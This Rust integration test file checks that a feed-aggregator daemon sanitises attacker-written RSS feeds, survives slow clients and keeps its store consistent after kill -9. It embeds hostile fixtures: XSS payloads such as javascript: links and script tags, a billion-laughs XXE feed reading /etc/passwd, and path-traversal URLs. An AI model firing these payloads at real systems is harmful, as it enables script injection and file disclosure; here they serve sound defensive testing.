//! Hostile input and crash safety through the real daemon: attacker-written
//! feeds never reach readers unsanitized nor take the daemon down, slow
//! clients cannot starve readers, and `kill -9` never corrupts the store.

use crate::common::{Config, Daemon, Origin, client, free_port, tidings, wait_for};
use serde_json::Value;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

const EVIL: &str = r#"<?xml version="1.0"?>
<rss version="2.0"><channel><title>Evil &lt;script&gt;alert(1)&lt;/script&gt; News</title><link>https://evil.example/</link><description>d</description>
<item>
  <title>&lt;img src=x onerror=alert(1)&gt;Hello &lt;b&gt;world&lt;/b&gt;</title>
  <link>javascript:alert(document.cookie)</link>
  <guid>evil-1</guid>
  <pubDate>Sun, 08 Mar 2026 10:00:00 GMT</pubDate>
  <description><![CDATA[<p onclick="steal()">Summary <a href="javascript:alert(1)">click</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data</a></p><style>body{display:none}</style>]]></description>
  <content:encoded xmlns:content="http://purl.org/rss/1.0/modules/content/"><![CDATA[<p>Body</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><form action="https://evil.example/"><input name="pw"></form><iframe src="https://evil.example/frame"></iframe><iframe src="https://www.youtube.com/embed/abc"></iframe><img src="x.png" onerror="alert(1)" style="position:fixed"><svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg><a href="JaVaScRiPt:alert(1)">y</a><object data="evil.swf"></object>]]></content:encoded>
</item>
</channel></rss>"#;

/// Bare `&` and bytes that are not UTF-8: recovered, as a lenient reader would.
const BROKEN: &[u8] = b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>Broken & Co</title><link>https://broken.example/</link><description>d</description><item><title>Fish & chips \xff\xfe sale</title><link>https://broken.example/fish?a=1&b=2</link><guid>b-1</guid><pubDate>Sat, 07 Mar 2026 10:00:00 GMT</pubDate></item></channel></rss>";

const BOMB: &str = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY x SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>Bomb</title><link>https://bomb.example/</link><description>d</description><item><title>Boom &f; &x;</title><guid>bomb-1</guid><pubDate>Fri, 06 Mar 2026 10:00:00 GMT</pubDate></item></channel></rss>"#;

fn config(
    dir: &std::path::Path,
    port: u16,
    server: &str,
    sources: &[(&str, String)],
) -> std::path::PathBuf {
    let base = Config::new(dir, port)
        .server(server)
        .fetch("schedule = \"*/2 * * * * *\"\ntimeout = \"3s\"");
    sources
        .iter()
        .fold(base, |c, (id, url)| c.feed_source(id, url))
        .entries("[[feed]]\nid = \"all\"\nsources = [\"*\"]\nlimit = 500")
        .write()
}

/// Every place a reader would find markup or a URL in a served item.
fn assert_clean(item: &Value) {
    let title = item["title"].as_str().unwrap_or("");
    assert!(
        !title.contains('<') || !title.contains('>') || !title.to_lowercase().contains("<img"),
        "markup in a title: {title}"
    );
    if let Some(url) = item["url"].as_str() {
        assert!(
            url.starts_with("http://") || url.starts_with("https://"),
            "a non-web link: {url}"
        );
    }
    let html = item["content_html"].as_str().unwrap_or("").to_lowercase();
    for tag in html.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or("");
        let name = tag
            .trim_start_matches('/')
            .split(|c: char| c.is_whitespace() || c == '/')
            .next()
            .unwrap_or("");
        assert!(
            !["script", "style", "form", "input", "object", "svg", "embed"].contains(&name),
            "<{name}> served: {html}"
        );
        assert!(
            !tag.contains("javascript:") && !tag.contains("data:"),
            "a script URL served: {html}"
        );
        assert!(
            !tag.split_whitespace()
                .skip(1)
                .any(|a| a.starts_with("on") || a.starts_with("style")),
            "a handler or style served: {html}"
        );
        if name == "iframe" && !tag.starts_with('/') {
            assert!(
                tag.contains("src=\"https://www.youtube.com/embed/"),
                "an iframe from elsewhere: {html}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_feeds_are_sanitized_and_never_take_the_daemon_down() {
    let origin = Origin::start().await;
    origin.put("evil.xml", "application/rss+xml", EVIL);
    origin.put("broken.xml", "application/rss+xml", BROKEN);
    origin.put("bomb.xml", "application/rss+xml", BOMB);
    origin.put("page.xml", "text/html", "<!DOCTYPE html><html><head><title>Not a feed</title></head><body><p>Hello</p></body></html>");
    let mut deep = String::from(
        "<rss version=\"2.0\"><channel><title>Deep</title><item><title>t</title><description>",
    );
    deep.push_str(&"<div>".repeat(100_000));
    deep.push_str("</description></item></channel></rss>");
    origin.put("deep.xml", "application/rss+xml", deep);
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    let cfg = config(
        dir.path(),
        port,
        "",
        &[
            ("evil", origin.url("evil.xml")),
            ("broken", origin.url("broken.xml")),
            ("bomb", origin.url("bomb.xml")),
            ("page", origin.url("page.xml")),
            ("deep", origin.url("deep.xml")),
        ],
    );
    let daemon = Daemon::start(&cfg, port, dir.path().join("log"));
    let http = client();
    let url = format!("{}/feeds/all.json", daemon.base);
    let all: Value = wait_for(20, "the three readable sources", || {
        let (http, url) = (http.clone(), url.clone());
        async move {
            let v: Value =
                serde_json::from_slice(&http.get(&url).send().await.ok()?.bytes().await.ok()?)
                    .ok()?;
            (v["items"].as_array()?.len() == 3).then_some(v)
        }
    })
    .await;
    let items = all["items"].as_array().unwrap();
    for item in items {
        assert_clean(item);
    }
    let evil = items
        .iter()
        .find(|i| i["id"] == "urn:tidings:evil:evil-1")
        .unwrap();
    assert_eq!(evil["title"], "Hello world");
    assert!(evil.get("url").is_none(), "{evil}");
    let body = evil["content_html"].as_str().unwrap();
    assert!(
        body.contains("<p>Body</p>") && body.contains("https://www.youtube.com/embed/abc"),
        "{body}"
    );
    // Recovered: bare & and invalid bytes.
    let fish = items
        .iter()
        .find(|i| i["id"] == "urn:tidings:broken:b-1")
        .unwrap();
    // Bytes that are not UTF-8 in a UTF-8 document read as windows-1252.
    assert_eq!(fish["title"], "Fish & chips \u{ff}\u{fe} sale");
    assert_eq!(fish["url"], "https://broken.example/fish?a=1&b=2");
    // Never expanded, never read from disk.
    let boom = items
        .iter()
        .find(|i| i["id"] == "urn:tidings:bomb:bomb-1")
        .unwrap();
    let title = boom["title"].as_str().unwrap();
    assert!(title.len() < 40 && !title.contains("root:"), "{title}");
    // The RSS and Atom forms carry the same clean text.
    for ext in ["rss", "atom"] {
        let text = http
            .get(format!("{}/feeds/all.{ext}", daemon.base))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        let lower = text.to_lowercase();
        for bad in [
            "&lt;script",
            "javascript:",
            "onerror",
            "onclick",
            "&lt;form",
            "data:text",
        ] {
            assert!(!lower.contains(bad), "{bad} in {ext}: {text}");
        }
    }
    // The HTML page fails with a clear error; the over-deep description is
    // read (the recovering reader closes it) and flattened to its text by
    // the HTML work budget; the daemon stays healthy.
    let out = wait_for(
        20,
        "the HTML page to fail and the deep document to be read",
        || {
            let (_, out, _) = tidings(&["sources", "-c", &cfg.display().to_string()]);
            async move {
                let line = |id: &str| {
                    out.lines()
                        .find(|l| l.starts_with(&format!("{id} ")))
                        .map(str::to_string)
                };
                let failed = line("page").is_some_and(|l| l.contains("error"));
                let read = line("deep").is_some_and(|l| l.contains(" ok "));
                (failed && read).then_some(out)
            }
        },
    )
    .await;
    let page = out.lines().find(|l| l.starts_with("page ")).unwrap();
    assert!(
        page.contains("HTML page, not RSS, Atom or JSON Feed"),
        "{page}"
    );
    let deep = http
        .get(format!("{}/sources/deep.json", daemon.base))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let deep: serde_json::Value = serde_json::from_str(&deep).unwrap();
    let body = deep["items"][0]["content_html"]
        .as_str()
        .unwrap_or_default();
    assert!(
        !body.contains("<div><div>"),
        "{}",
        &body[..body.len().min(200)]
    );
    assert_eq!(
        http.get(format!("{}/healthz", daemon.base))
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
}

fn send(port: u16, bytes: &[u8]) -> TcpStream {
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.write_all(bytes).unwrap();
    s
}

/// Whether the server closed `s` within `within`.
fn closed(s: &mut TcpStream, within: Duration) -> bool {
    s.set_read_timeout(Some(within)).unwrap();
    let mut buf = [0u8; 4096];
    loop {
        match s.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => continue,
            Err(e) => return e.kind() == std::io::ErrorKind::ConnectionReset,
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_clients_cannot_starve_readers() {
    let origin = Origin::start().await;
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    let cfg = config(
        dir.path(),
        port,
        "max_connections = 8\nheader_timeout = \"1s\"",
        &[("none", origin.url("none.xml"))],
    );
    let daemon = Daemon::start(&cfg, port, dir.path().join("log"));
    // Eight half-sent requests take every connection...
    let mut slow: Vec<TcpStream> = (0..8)
        .map(|_| send(port, b"GET /feeds/all.rss HTTP/1.1\r\nHost: x\r\n"))
        .collect();
    tokio::time::sleep(Duration::from_millis(200)).await;
    // ...until the header timeout closes them, and a reader gets through.
    let start = Instant::now();
    let http = client();
    let url = format!("{}/feeds/all.rss", daemon.base);
    wait_for(5, "a reader to be served", || {
        let (http, url) = (http.clone(), url.clone());
        async move { (http.get(&url).send().await.ok()?.status() == 200).then_some(()) }
    })
    .await;
    assert!(
        start.elapsed() < Duration::from_secs(3),
        "{:?}",
        start.elapsed()
    );
    for s in &mut slow {
        assert!(
            closed(s, Duration::from_secs(3)),
            "a slow client was left open"
        );
    }
    // An oversized head is refused, not buffered.
    let mut big = send(
        port,
        format!(
            "GET /feeds/all.rss HTTP/1.1\r\nHost: x\r\nX-Big: {}\r\n\r\n",
            "a".repeat(64 * 1024)
        )
        .as_bytes(),
    );
    let mut answer = String::new();
    big.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    let _ = big.read_to_string(&mut answer);
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 431"),
        "{answer}"
    );
    // Paths never reach the file system.
    for path in [
        "/feeds/..%2F..%2Fetc%2Fpasswd.rss",
        "/feeds/../../etc/passwd",
        "/sources/%2e%2e.json",
        "/etc/passwd",
    ] {
        let resp = http
            .get(format!("{}{path}", daemon.base))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 404, "{path}");
        assert!(!resp.text().await.unwrap().contains("root:"), "{path}");
    }
}

/// A feed of `n` items whose ids are unique to `source`.
fn items_feed(source: usize, n: usize) -> String {
    let mut s = format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>S{source}</title><link>https://s{source}.example/</link><description>d</description>"
    );
    for i in 0..n {
        s.push_str(&format!(
            "<item><title>Item {i} of {source}</title><link>https://s{source}.example/{i}</link><guid>s{source}-{i}</guid><pubDate>Mon, 02 Mar 2026 {:02}:{:02}:00 GMT</pubDate><description>{}</description></item>",
            i / 60,
            i % 60,
            "Text. ".repeat(50)
        ));
    }
    s.push_str("</channel></rss>");
    s
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kill_9_during_fetches_leaves_a_consistent_store() {
    const SOURCES: usize = 60;
    const ITEMS: usize = 20;
    let origin = Origin::start().await;
    let mut sources = Vec::new();
    for s in 0..SOURCES {
        let path = format!("s{s}.xml");
        origin.put(&path, "application/rss+xml", items_feed(s, ITEMS));
        sources.push((format!("s{s}"), origin.url(&path)));
    }
    let sources: Vec<(&str, String)> = sources
        .iter()
        .map(|(i, u)| (i.as_str(), u.clone()))
        .collect();
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    // A 1 s fetch timeout: a killed daemon's leases, three timeouts, run
    // out in 3 s (a daemon claims every due source at once, so each
    // restart waits for them).
    let cfg = sources
        .iter()
        .fold(
            Config::new(dir.path(), port).fetch("schedule = \"*/2 * * * * *\"\ntimeout = \"1s\""),
            |c, (id, url)| c.feed_source(id, url),
        )
        .entries("[[feed]]\nid = \"all\"\nsources = [\"*\"]\nlimit = 500")
        .write();
    // Killed at once, mid-cycle (after a few more requests reached the
    // origin), three times over, early and late in a cycle; then a
    // restarted one takes its sources over when the leases run out.
    for (round, more) in [3usize, 20, 10].into_iter().enumerate() {
        let seen = origin.log().len();
        let mut daemon = Daemon::start(&cfg, port, dir.path().join(format!("log{round}")));
        wait_for(30, "requests to reach the origin", || async {
            (origin.log().len() >= seen + more || seen + more > SOURCES * 5).then_some(())
        })
        .await;
        daemon.child.kill().unwrap();
        daemon.child.wait().unwrap();
    }
    let daemon = Daemon::start(&cfg, port, dir.path().join("log-final"));
    let total = (SOURCES * ITEMS) as i64;
    let db_path = dir.path().join("state/tidings.db");
    wait_for(60, "every item stored after the restarts", || {
        let db_path = db_path.clone();
        async move {
            let db = rusqlite::Connection::open(&db_path).ok()?;
            let n: i64 = db
                .query_row("SELECT COUNT(*) FROM items", [], |r| r.get(0))
                .ok()?;
            (n == total).then_some(())
        }
    })
    .await;
    // The feed catches up as the last fetches land.
    let http = client();
    let url = format!("{}/feeds/all.json", daemon.base);
    let all: Value = wait_for(20, "a full feed", || {
        let (http, url) = (http.clone(), url.clone());
        async move {
            let v: Value =
                serde_json::from_slice(&http.get(&url).send().await.ok()?.bytes().await.ok()?)
                    .ok()?;
            (v["items"].as_array()?.len() == 500).then_some(v)
        }
    })
    .await;
    let ids: std::collections::HashSet<&str> = all["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids.len(), 500, "an item served twice");
    drop(daemon);
    let db = rusqlite::Connection::open(&db_path).unwrap();
    let check: String = db
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap();
    assert_eq!(check, "ok");
    let (rows, distinct): (i64, i64) = db
        .query_row(
            "SELECT COUNT(*), COUNT(DISTINCT source || '/' || id) FROM items",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!((rows, distinct), (total, total), "every item exactly once");
}
